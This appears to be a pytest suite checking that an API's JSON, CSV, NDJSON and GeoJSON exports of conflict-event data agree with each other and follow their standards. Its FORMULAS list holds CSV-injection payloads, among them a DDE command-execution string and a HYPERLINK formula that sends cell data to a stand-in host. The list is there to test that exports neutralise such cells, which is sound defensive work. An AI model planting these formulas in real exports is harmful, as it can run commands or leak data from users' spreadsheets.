"""Formats: what `Accept` chooses, that each media type is what its standard says, and that all tell the same."""

import csv
import io
import json
import math
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import replace
from typing import Any

import pytest
from answers import EVIDENCE, Json, ask, check_type, event, faults_of, path_of, problem_of, serving, strict_json, write
from conftest import seeded
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from api.config import Settings
from api.store import reading
from api.web.routes import Route
from api.web.table import ROUTES

JSON, CSV, NDJSON, GEOJSON = (
    "application/json",
    "text/csv; charset=utf-8",
    "application/x-ndjson",
    "application/geo+json",
)
BROWSER = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"

NEGOTIATING = [route for route in ROUTES if route.variants]
"""Routes among whose media types `Accept` chooses."""
PLAIN = [route for route in ROUTES if not route.variants]
LISTS = ("events", "statements", "timeline", "actors", "locations", "sources")
PLACED = ("events", "statements", "timeline", "locations")

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"open")', "-2+3+cmd|' /C calc'!D2", "+", "==", "=", "@", "-",
)  # fmt: skip
"""Texts that one spreadsheet or another runs (OWASP, CSV injection)."""
HARMLESS = (
    "'", "''", "'=1+1", "a=1", " =1", '"', '""', '"=1"', "a,b", ",", ";", "a;b", "|", "two\nlines", "two\r\nlines", "two\rlines",
    "end\n", 'a "quoted" word', "1", "01", "1e5", "1,000", "TRUE", "null", "2024-11-27", "حلب", "Алеппо", "🙂", "a\u2028b\u2029c",
    "a\u00a0b", "\ufeffmark", 'says "self":"/v1/events/x" in its text', "<b>&amp;</b>", "\\", "\\n", "a\tb", "x" * 300,
)  # fmt: skip
TITLES = {f"odd-{number:02}": title for number, title in enumerate((*FORMULAS, *HARMLESS))}


@pytest.fixture(scope="module")
def odd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
    """A client of the seed with records whose texts are hard to write down, and places in every quarter of the globe."""
    path = seeded(tmp_path_factory.mktemp("odd") / "odd.db")
    corners = {
        "south-west": (-33.9, -18.4),
        "pole": (90, 180),
        "origin": (0, 0),
        "date-line": (-90, -180),
        "near": (1e-7, -1e-7),
    }
    write(
        path,
        locations=[
            {"id": name, "name": f"={name}", "aliases": ["+1", "a; b"], "type": "city", "latitude": latitude,
             "longitude": longitude, "evidence": EVIDENCE}
            for name, (latitude, longitude) in corners.items()
        ],
        actors=[{"id": "formula", "name": "=Actor", "aliases": ["@a", "-b"], "type": "other", "evidence": EVIDENCE}],
        events=[
            *(event(record_id, title, summary=title) for record_id, title in TITLES.items()),
            *(event(f"at-{name}", name, location=name, location_precision="exact") for name in corners),
        ],
        statements=[
            {"id": f"said-{record_id}", "speaker": "formula", "kind": "quote", "type": "claim", "text": title,
             "date": "2000-01-01", "date_precision": "day", "evidence": EVIDENCE}
            for record_id, title in TITLES.items()
        ],
    )  # fmt: skip
    with serving(Settings(db=path)) as client:
        yield client


def table_of(response: TestResponse) -> list[dict[str, str]]:
    """The rows of a CSV answer; it must be what RFC 4180 says, in UTF-8 without a mark."""
    assert response.content_type == CSV
    text = response.data.decode("utf-8")
    outside = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert not re.search(r'"|\r(?!\n)|(?<!\r)\n', outside)
    assert text.endswith("\r\n")
    assert not text.startswith("\ufeff")
    header, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert all(re.fullmatch(r"[a-z_0-9]+", name) for name in header)
    assert len(set(header)) == len(header)
    assert {len(row) for row in rows} <= {len(header)}
    return [dict(zip(header, row, strict=True)) for row in rows]


def header_of(response: TestResponse) -> list[str]:
    line: str = response.data.decode("utf-8").partition("\r\n")[0]
    return line.split(",")


def text_of(cell: str) -> str:
    """The text that a cell stands for, as the docs say: without one leading apostrophe."""
    return cell.removeprefix("'")


def lines_of(response: TestResponse) -> list[Json]:
    """The records of an NDJSON answer."""
    assert response.content_type == NDJSON
    text = response.data.decode("utf-8")
    assert text == "" or text.endswith("\n")
    assert "\r" not in text
    return [strict_json(line) for line in text.split("\n")[:-1]]


def positions_of(geometry: Json | None) -> list[list[float]]:
    """The positions of a point, of several, or of none."""
    if geometry is None:
        return []
    assert geometry.keys() == {"type", "coordinates"}
    assert geometry["type"] in ("Point", "MultiPoint")
    positions: list[list[float]] = geometry["coordinates"]
    return positions if geometry["type"] == "MultiPoint" else [geometry["coordinates"]]


def features_of(response: TestResponse) -> list[Json]:
    """The features of a GeoJSON answer; it must be what RFC 7946 says."""
    assert response.content_type == GEOJSON
    collection = strict_json(response.text)
    assert collection["type"] == "FeatureCollection"
    assert not {"coordinates", "geometries", "geometry", "properties", "crs"} & collection.keys()
    for feature in collection["features"]:
        assert feature.keys() == {"type", "id", "geometry", "properties"}
        assert feature["type"] == "Feature"
        assert isinstance(feature["id"], str)
        assert isinstance(feature["properties"], dict)
        assert all(not isinstance(each, dict | list) for each in feature["properties"].values())
        for longitude, latitude in positions_of(feature["geometry"]):
            assert all(isinstance(each, int | float) and math.isfinite(each) for each in (longitude, latitude))
            assert -180 <= longitude <= 180
            assert -90 <= latitude <= 90
    features: list[Json] = collection["features"]
    return features


def records_of(response: TestResponse) -> list[Any]:
    """What a list gives, whatever its format: documents, rows or features."""
    if response.content_type == JSON:
        data: list[Any] = strict_json(response.text)["data"]
        return data
    read: dict[str, Callable[[TestResponse], list[Any]]] = {CSV: table_of, NDJSON: lines_of, GEOJSON: features_of}
    return read[response.content_type](response)


def pages_of(client: FlaskClient, target: str) -> Iterator[TestResponse]:
    """The page and all after it, by the `Link` header."""
    while True:
        page = ask(client, target)
        assert page.status_code == 200
        yield page
        following = re.search(r'<http://localhost([^>]*)>; rel="next"', page.headers["Link"])
        if following is None:
            return
        target = following[1]


def every_document(client: FlaskClient, target: str) -> list[Json]:
    """All records of a JSON list."""
    pages = pages_of(client, f"{target}{'&' if '?' in target else '?'}limit=1000")
    return [record for page in pages for record in strict_json(page.text)["data"]]


def as_cell(value: Any) -> str:
    """A scalar as a cell shows it, but for the apostrophe."""
    if value is None:
        return ""
    return json.dumps(value) if isinstance(value, bool) else str(value)


ACCEPTS = (
    ("", JSON),
    ("*/*", JSON),
    ("application/*", JSON),
    ("application/json", JSON),
    ("APPLICATION/Json", JSON),
    ("application/json; charset=utf-8", JSON),
    ("application/json;charset=UTF-8;q=0.9", JSON),
    ("application/json, text/plain, */*", JSON),
    (BROWSER, JSON),
    ("text/html, */*;q=0.1", JSON),
    ("text/csv", CSV),
    ("text/csv; charset=utf-8", CSV),
    ("text/csv;header=present", CSV),
    ("text/*", CSV),
    ("text/csv, */*;q=0.1", CSV),
    ("text/csv;q=0.5, application/json;q=0.4", CSV),
    ("text/csv;q=0.4, application/json;q=0.5", JSON),
    ("application/json;q=0, text/csv;q=0.001", CSV),
    ("application/x-ndjson", NDJSON),
    ("application/x-ndjson, application/json;q=0.9", NDJSON),
    ("application/geo+json", GEOJSON),
    ("image/png, application/geo+json", GEOJSON),
    ("text/html", None),
    ("application/xml", None),
    ("image/*", None),
    ("application/vnd.geo+json", None),
    ("application/jsonx", None),
    ("text/csv;q=0", None),
    ("*/*;q=0", None),
    ("application/json;q=0", None),
    ("application/problem+json", None),
    ("json", None),
    ("csv", None),
)
"""What `Accept` says, and what it gets of all media types; None is a 406."""


@pytest.mark.parametrize(("accept", "media_type"), ACCEPTS)
def test_accept_chooses_the_media_type(client: FlaskClient, accept: str, media_type: str | None) -> None:
    for route in NEGOTIATING:
        path, offered = path_of(route), {each.media_type for each in (route, *route.variants)}
        if "text/csv" not in offered:  # the feed of changes, which has cases of its own
            continue
        response = ask(client, path, Accept=accept)
        if media_type is None or media_type.partition(";")[0] not in offered:
            assert response.status_code == 406
            problem = problem_of(response)
            check_type(client, problem)
            assert problem["type"].endswith("#not-acceptable")
            assert set(faults_of(problem)["Accept"]["allowed"]) == offered
        else:
            assert response.status_code == 200
            assert response.content_type == media_type
            assert set(re.split(", *", response.headers["Vary"])) == {"Accept", "Accept-Encoding"}


@pytest.mark.parametrize("route", NEGOTIATING, ids=lambda route: route.operation)
def test_a_path_of_one_format_gives_what_accept_would(client: FlaskClient, route: Route) -> None:
    path = path_of(route)
    for each in (replace(route, path=f"{path}.json"), *route.variants):
        chosen, own = ask(client, path, Accept=each.media_type), ask(client, each.path)
        assert own.content_type == chosen.content_type
        assert own.data.replace(each.path.encode(), path.encode()) == chosen.data


@pytest.mark.parametrize("route", PLAIN, ids=lambda route: route.operation)
def test_a_path_of_one_format_ignores_accept(client: FlaskClient, route: Route) -> None:
    etag = ask(client, path_of(route)).headers["ETag"]
    for accept in ("", "text/csv", "image/png", "text/html", "application/json;q=0", "*/*;q=0", ";;;", BROWSER):
        response = ask(client, path_of(route), Accept=accept)
        assert response.status_code == 200
        assert response.mimetype == route.media_type
        assert response.headers["Vary"] == "Accept-Encoding"
        assert response.headers["ETag"] == etag


def test_the_parameters_are_those_of_the_chosen_format(client: FlaskClient) -> None:
    for target, accept, status in (
        ("/v1/events?fields=location_id", "text/csv", 200),
        ("/v1/events?fields=location_id", "application/json", 400),
        ("/v1/events?fields=external_ids", "application/x-ndjson", 200),
        ("/v1/events?fields=external_ids", "application/geo+json", 400),
        ("/v1/events?total=true", "application/geo+json", 200),
        ("/v1/events?total=true", "text/csv", 400),
    ):
        assert ask(client, target, Accept=accept).status_code == status, (target, accept)


INDEX_ACCEPTS = (
    ("", JSON),
    ("*/*", JSON),
    ("application/json", JSON),
    ("application/json; charset=utf-8", JSON),
    ("text/html", "text/html; charset=utf-8"),
    ("text/html; charset=utf-8", "text/html; charset=utf-8"),
    (BROWSER, "text/html; charset=utf-8"),
    ("text/html;q=0.5, application/json", JSON),
)


@pytest.mark.parametrize(("accept", "media_type"), INDEX_ACCEPTS)
def test_the_index_is_a_page_for_browsers(client: FlaskClient, accept: str, media_type: str) -> None:
    response = ask(client, "/", Accept=accept)
    assert response.content_type == media_type
    assert "Accept" in re.split(", *", response.headers["Vary"])


@pytest.mark.parametrize(
    "route", [each for each in ROUTES if each.media_type == "text/csv"], ids=lambda each: each.path
)
def test_csv_is_rfc_4180(client: FlaskClient, odd: FlaskClient, route: Route) -> None:
    for each in (client, odd):
        assert table_of(ask(each, route.path))


@pytest.mark.parametrize("name", LISTS)
def test_csv_of_nothing_is_its_header(client: FlaskClient, name: str) -> None:
    full, empty = (ask(client, f"/v1/{name}.csv{query}") for query in ("", "?q=nowhere"))
    assert table_of(empty) == []
    assert header_of(empty) == header_of(full)


@pytest.fixture(scope="module")
def odd_cells(odd: FlaskClient) -> dict[str, list[str]]:
    """The cells that hold each of the odd texts, by the id of its event."""
    events = table_of(ask(odd, "/v1/events.csv?to=2000-12-31&fields=id,title,summary"))
    said = {row["id"]: row["text"] for row in table_of(ask(odd, "/v1/statements.csv?to=2000-12-31&fields=id,text"))}
    return {
        row["id"]: [row["title"], row["summary"], said[f"said-{row['id']}"]] for row in events if row["id"] in TITLES
    }


@pytest.mark.parametrize(("record_id", "title"), TITLES.items())
def test_a_cell_is_no_formula_and_gives_its_text_back(
    odd_cells: dict[str, list[str]], record_id: str, title: str
) -> None:
    for cell in odd_cells[record_id]:
        assert cell[:1] not in tuple("=+-@\t\r\n＝＋－＠")
        assert text_of(cell) == title
        assert (cell == title) == (title in HARMLESS and not title.startswith("'"))


def test_the_guide_says_how_cells_are_made_harmless(client: FlaskClient) -> None:
    guide = ask(client, "/docs/guide").text
    assert "apostrophe" in guide
    assert all(f"<code>{each}</code>" in guide for each in "=+-@")


def test_numbers_stay_numbers_and_lists_are_texts(odd: FlaskClient) -> None:
    rows = {row["id"]: row for row in table_of(ask(odd, "/v1/locations.csv"))}
    assert (rows["south-west"]["latitude"], rows["south-west"]["longitude"]) == ("-33.9", "-18.4")
    assert [float(rows["near"][name]) for name in ("latitude", "longitude")] == [1e-7, -1e-7]
    assert text_of(rows["pole"]["name"]) == "=pole"
    assert text_of(rows["pole"]["aliases"]) == "+1; a; b"
    assert rows["syria"]["latitude"] == ""
    said = table_of(ask(odd, "/v1/statements.csv?speaker=formula&limit=1"))[0]
    assert text_of(said["speaker"]) == "=Actor"


FLAT: Mapping[str, Sequence[str]] = {
    "events": ("id", "type", "title", "summary", "start_date", "end_date", "date_precision", "location_precision", "part_of",
               "status", "dataset", "source_count", "independent_source_count", "version", "created_at", "updated_at"),
    "statements": ("id", "date", "end_date", "date_precision", "kind", "type", "text", "dataset", "source_count", "version"),
    "timeline": ("entry", "id", "date", "end_date", "title", "type"),
    "actors": ("id", "name", "type", "country", "description", "events", "statements", "first_event_date", "last_event_date"),
    "locations": ("id", "name", "type", "parent", "country", "latitude", "longitude", "description", "events", "statements"),
    "sources": ("id", "type", "title", "publisher", "author", "language", "published_at", "reference_date", "sha256", "length",
                "derived_from", "events", "statements"),
}  # fmt: skip
"""Columns that are members of the record itself."""
INNER: Mapping[str, Mapping[str, Sequence[str]]] = {
    "events": {"location_id": ("location", "id"), "location": ("location", "name"), "country": ("location", "country"),
               "latitude": ("location", "latitude"), "longitude": ("location", "longitude"), "url": ("links", "self"),
               "fatalities_low": ("fatalities", "low"), "fatalities_best": ("fatalities", "best"),
               "fatalities_high": ("fatalities", "high"), "fatalities_disputed": ("fatalities", "disputed"),
               "injured_best": ("injured", "best"), "displaced_best": ("displaced", "best")},
    "statements": {"speaker_id": ("speaker", "id"), "speaker": ("speaker", "name"), "on_behalf_of": ("on_behalf_of", "name"),
                   "location": ("location", "name"), "url": ("links", "self")},
    "timeline": {"location_id": ("location", "id"), "location": ("location", "name"), "latitude": ("location", "latitude"),
                 "url": ("record", "links", "self")},
    "actors": {"url": ("links", "self")},
    "locations": {"url": ("links", "self")},
    "sources": {"url_of_text": ("url",), "url": ("links", "self")},
}  # fmt: skip
"""Columns that stand deeper in the record, with the way there."""


def columns_of(name: str) -> dict[str, Sequence[str]]:
    """Columns of a list, each with where it stands in the record."""
    return {**{each: (each,) for each in FLAT[name]}, **INNER[name]}


def at(document: Json, path: Sequence[str]) -> Any:
    value: Any = document
    for member in path:
        value = None if value is None else value[member]
    return value


@pytest.mark.parametrize("name", LISTS)
def test_csv_tells_what_json_tells(odd: FlaskClient, name: str) -> None:
    documents, rows = every_document(odd, f"/v1/{name}"), table_of(ask(odd, f"/v1/{name}.csv"))
    assert len(rows) == len(documents)
    paths = columns_of(name)
    for document, row in zip(documents, rows, strict=True):
        for column, path in paths.items():
            assert text_of(row[column]) == as_cell(at(document, path)), (document["id"], column)


@pytest.mark.parametrize("name", [*LISTS, "event-types", "events/summary", "statements/summary"])
def test_ndjson_is_the_data_of_json_line_by_line(odd: FlaskClient, name: str) -> None:
    lines = lines_of(ask(odd, f"/v1/{name}.ndjson"))
    assert lines
    assert lines == (every_document(odd, f"/v1/{name}") if name in LISTS else records_of(ask(odd, f"/v1/{name}")))


def test_a_text_that_looks_like_a_link_is_left_alone(odd: FlaskClient) -> None:
    (record_id,) = (key for key, title in TITLES.items() if '"self"' in title)
    for target in (f"/v1/events/{record_id}", f"/v1/events/{record_id}?fields=title,summary,links"):
        record = strict_json(ask(odd, target).text)
        assert record["title"] == record["summary"] == TITLES[record_id]
        assert record["links"]["self"] == f"http://localhost/v1/events/{record_id}"
    assert {row["title"] for row in lines_of(ask(odd, "/v1/events.ndjson?to=2000-12-31"))} >= set(TITLES.values())


def places_of(document: Json) -> list[list[float]]:
    """Where a record is; for a statement that was made nowhere known, where its events took place."""
    record = document.get("record", document)
    places = [record if "longitude" in record else record["location"]]
    if places == [None] and "speaker" in record:
        places = [each["location"] for each in record["events"]]
    known = [[place["longitude"], place["latitude"]] for place in places if place and place["longitude"] is not None]
    return [each for index, each in enumerate(known) if each not in known[:index]]


@pytest.mark.parametrize("name", PLACED)
def test_geojson_is_rfc_7946_and_tells_what_json_tells(odd: FlaskClient, name: str) -> None:
    documents, features = every_document(odd, f"/v1/{name}"), features_of(ask(odd, f"/v1/{name}.geojson"))
    paths = columns_of(name)
    for document, feature in zip(documents, features, strict=True):
        assert feature["id"] == document["id"]
        assert positions_of(feature["geometry"]) == places_of(document)
        assert {column: feature["properties"][column] for column in paths} == {
            column: at(document, path) for column, path in paths.items()
        }


def test_geojson_puts_the_longitude_first(odd: FlaskClient) -> None:
    found = {each["id"]: each["geometry"] for each in features_of(ask(odd, "/v1/locations.geojson"))}
    assert found["south-west"]["coordinates"] == [-18.4, -33.9]
    assert found["date-line"]["coordinates"] == [-180, -90]
    assert found["syria"] is None


def test_geojson_properties_are_the_columns_of_csv(client: FlaskClient) -> None:
    for name in PLACED:
        (feature,) = features_of(ask(client, f"/v1/{name}.geojson?limit=1"))
        assert list(feature["properties"]) == header_of(ask(client, f"/v1/{name}.csv"))


def shown_by(response: TestResponse) -> set[tuple[str, ...]]:
    """The members, columns or properties of each record in an answer."""
    records = records_of(response)
    if response.content_type == GEOJSON:
        records = [each["properties"] for each in records]
    return {tuple(each) for each in records}


@pytest.mark.parametrize("name", LISTS)
@pytest.mark.parametrize("suffix", ["", ".json", ".csv", ".ndjson", ".geojson"])
def test_fields_leave_the_rest_out(client: FlaskClient, name: str, suffix: str) -> None:
    if suffix == ".geojson" and name not in PLACED:
        assert ask(client, f"/v1/{name}{suffix}").status_code == 404
        return
    path = f"/v1/{name}{suffix}"
    (every,) = shown_by(ask(client, f"{path}?limit=3"))
    for member in every:
        assert shown_by(ask(client, f"{path}?limit=3&fields={member}")) == {(member,)}
    some = every[::2]
    for query in (
        f"fields={','.join(some)}",
        f"fields={','.join(reversed(some))}",
        "&".join(f"fields={each}" for each in some),
    ):
        assert shown_by(ask(client, f"{path}?limit=3&{query}")) == {some}
    assert shown_by(ask(client, f"{path}?limit=3&fields={','.join(every)}")) == {every}


@pytest.mark.parametrize("name", LISTS)
def test_fields_do_not_change_what_is_shown(client: FlaskClient, name: str) -> None:
    full = every_document(client, f"/v1/{name}")
    kept = every_document(client, f"/v1/{name}?fields=id,title" if "title" in full[0] else f"/v1/{name}?fields=id,name")
    assert [{key: each[key] for key in kept[0]} for each in full] == kept
    assert (
        ask(client, f"/v1/{name}.csv?fields=id").data.split()
        == b"\n".join([b"id", *(each["id"].encode() for each in full)]).split()
    )


RECORDS = [each for each in ROUTES if each.path.endswith("/<record_id>") and each.media_type == "application/json"]


@pytest.mark.parametrize("route", RECORDS, ids=lambda route: route.operation)
def test_fields_of_a_single_record(client: FlaskClient, route: Route) -> None:
    path = path_of(route)
    full = strict_json(ask(client, path).text)
    for member in full:
        assert strict_json(ask(client, f"{path}?fields={member}").text) == {member: full[member]}
    some = list(full)[1::3]
    found = strict_json(ask(client, f"{path}?fields={','.join(reversed(some))}").text)
    assert list(found.items()) == [(member, full[member]) for member in some]
    assert full == strict_json(ask(client, f"{path}?fields={','.join(full)}").text)


@pytest.mark.parametrize("route", RECORDS, ids=lambda route: route.operation)
def test_a_single_record_is_what_the_list_shows(client: FlaskClient, route: Route) -> None:
    record = strict_json(ask(client, path_of(route)).text)
    assert record in every_document(client, route.path.rsplit("/", 1)[0])
    assert record["links"]["self"] == f"http://localhost{path_of(route)}"


QUESTIONS = {
    "events": (
        "?sort=-updated_at",
        "?sort=title,-type",
        "?from=2024-11-28&to=2024-11-29",
        "?location=Syria&sort=-end_date",
    ),
    "statements": (
        "?q=aleppo&sort=relevance",
        "?sort=title",
        "?near=36.2,37.16&radius=500",
        "?kind=quote&sort=-type,date",
    ),
    "timeline": ("?sort=-date", "?entry=statement", "?actor=SOHR"),
    "actors": ("?sort=-events", "?type=person&sort=-name"),
    "locations": ("?sort=-events,name", "?within=Syria"),
    "sources": ("?sort=title", "?sort=-published_at,title"),
}
"""Filters and sorts, beside those that every list has."""


@pytest.fixture(params=[1000, 4])
def export_page(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> int:
    """How many records a whole set reads at a time: all of these, or some, so that it is put together of several."""
    monkeypatch.setattr(reading, "EXPORT_PAGE", request.param)
    return int(request.param)


@pytest.mark.parametrize(
    ("name", "suffix", "question"),
    [
        (name, suffix, question)
        for name, questions in QUESTIONS.items()
        for suffix in (".csv", ".ndjson", *([".geojson"] if name in PLACED else []))
        for question in ("", "?q=aleppo", "?updated_since=2000-01-01T00:00:00Z&fields=id", *questions)
    ],
)
def test_a_whole_set_is_all_its_pages(
    client: FlaskClient, export_page: int, name: str, suffix: str, question: str
) -> None:
    whole = ask(client, f"/v1/{name}{suffix}{question}")
    pages = list(pages_of(client, f"/v1/{name}{suffix}{question}{'&' if question else '?'}limit=7"))
    assert [record for page in pages for record in records_of(page)] == records_of(whole)
    assert "Link" not in whole.headers or 'rel="next"' not in whole.headers["Link"]
    if suffix == ".csv":
        assert {tuple(header_of(page)) for page in pages} == {tuple(header_of(whole))}
    if suffix == ".ndjson":
        assert b"".join(page.data for page in pages) == whole.data
    assert len(records_of(whole)) == len(every_document(client, f"/v1/{name}{question}"))


@pytest.mark.parametrize("suffix", [".csv", ".ndjson", ".geojson"])
def test_the_rest_of_a_whole_set_begins_at_a_cursor(client: FlaskClient, export_page: int, suffix: str) -> None:
    target = f"/v1/statements{suffix}?sort=title"
    first = ask(client, f"{target}&limit=20")
    cursor = re.search(r'cursor=([^>]*)>; rel="next"', first.headers["Link"])
    assert cursor
    rest = ask(client, f"{target}&cursor={cursor[1]}")
    assert [*records_of(first), *records_of(rest)] == records_of(ask(client, target))


def test_json_comes_in_pages_even_if_none_was_asked_for(client: FlaskClient) -> None:
    body = strict_json(ask(client, "/v1/statements").text)
    assert len(body["data"]) == body["meta"]["count"] == body["meta"]["limit"] == 50
    assert body["links"]["next"]


@pytest.mark.parametrize("name", LISTS)
@pytest.mark.parametrize("suffix", ["", ".json", ".geojson"])
def test_a_total_is_told_where_there_is_room(client: FlaskClient, name: str, suffix: str) -> None:
    if suffix == ".geojson" and name not in PLACED:
        return
    every = len(every_document(client, f"/v1/{name}"))
    for query, total in (
        ("total=true", every),
        ("total=true&limit=1", every),
        ("total=true&q=nowhere", 0),
        ("total=false", None),
    ):
        meta = strict_json(ask(client, f"/v1/{name}{suffix}?{query}").text)["meta"]
        assert meta.get("total") == total


def test_a_page_of_geojson_has_its_links_and_a_whole_set_has_none(client: FlaskClient) -> None:
    page, whole = (strict_json(ask(client, f"/v1/events.geojson{query}").text) for query in ("?limit=5", ""))
    assert page["meta"] == {"limit": 5, "count": 5, "dataset_version": whole["meta"]["dataset_version"]}
    assert page["links"]["next"]
    assert whole["links"] == {"self": "http://localhost/v1/events.geojson", "next": None, "prev": None}
    assert whole["meta"].keys() == {"dataset_version"}


@pytest.mark.parametrize(
    "question", ["", "?location=Aleppo", "?entry=statement&actor=SOHR", "?type=airstrike,condemn&sort=-date"]
)
def test_a_timeline_is_the_same_in_every_format(odd: FlaskClient, question: str) -> None:
    documents = every_document(odd, f"/v1/timeline{question}")
    keys = [(each["entry"], each["id"]) for each in documents]
    assert keys
    assert keys == [(each["entry"], each["id"]) for each in lines_of(ask(odd, f"/v1/timeline.ndjson{question}"))]
    assert keys == [(each["entry"], each["id"]) for each in table_of(ask(odd, f"/v1/timeline.csv{question}"))]
    features = features_of(ask(odd, f"/v1/timeline.geojson{question}"))
    assert keys == [(each["properties"]["entry"], each["properties"]["id"]) for each in features]
    for each in documents:
        noun = {"event": "events", "statement": "statements"}[each["entry"]]
        assert each["record"] == strict_json(ask(odd, f"/v1/{noun}/{each['id']}").text)


GROUPINGS = (
    "", "type", "country", "location", "actor", "source", "day", "week", "month", "year", "type,country", "actor,month",
    "source,location", "week,actor",
)  # fmt: skip
NAMED_GROUPS = ("location", "actor", "source")


@pytest.mark.parametrize("grouping", GROUPINGS)
@pytest.mark.parametrize("sort", ["group", "-count"])
def test_a_summary_of_events_is_the_same_in_csv(odd: FlaskClient, grouping: str, sort: str) -> None:
    query = f"?sort={sort}" + (f"&group_by={grouping}" if grouping else "")
    groups = every_document(odd, f"/v1/events/summary{query}")
    rows = table_of(ask(odd, f"/v1/events/summary.csv{query}"))
    assert groups
    assert len(rows) == len(groups)
    for group, row in zip(groups, rows, strict=True):
        expected: Json = {}
        for name in grouping.split(",") if grouping else ():
            if name in NAMED_GROUPS:
                expected |= {f"{name}_id": at(group, (name, "id")), name: at(group, (name, "name"))}
            else:
                expected[name] = group[name]
        expected["events"] = group["events"]
        expected |= {f"fatalities_{each}": group["fatalities"][each] for each in ("low", "best", "high", "civilians")}
        expected |= {"injured": group["injured"], "displaced": group["displaced"]}
        assert {column: text_of(row[column]) for column in expected} == {
            column: as_cell(value) for column, value in expected.items()
        }
        assert row["events_with_fatalities"] == str(group["fatalities"]["events"])


@pytest.mark.parametrize("grouping", GROUPINGS)
def test_a_summary_of_statements_is_the_same_in_csv(odd: FlaskClient, grouping: str) -> None:
    query = f"?group_by={grouping}" if grouping else ""
    groups = every_document(odd, f"/v1/statements/summary{query}")
    rows = table_of(ask(odd, f"/v1/statements/summary.csv{query}"))
    assert [int(row["statements"]) for row in rows] == [group["statements"] for group in groups]
    for group, row in zip(groups, rows, strict=True):
        for name in grouping.split(",") if grouping else ():
            label = at(group, (name, "id")) if name in NAMED_GROUPS else group[name]
            assert text_of(row[f"{name}_id" if name in NAMED_GROUPS else name]) == as_cell(label)
        for figure in group["figures"]:
            assert f"{figure['measure']} {figure['population']}: " in row["figures"]
        assert bool(row["figures"]) == bool(group["figures"])


def test_counts_of_a_summary_are_those_of_the_lists(client: FlaskClient) -> None:
    for noun in ("events", "statements"):
        for row in table_of(ask(client, f"/v1/{noun}/summary.csv?group_by=type")):
            assert int(row[noun]) == len(table_of(ask(client, f"/v1/{noun}.csv?type={row['type']}")))
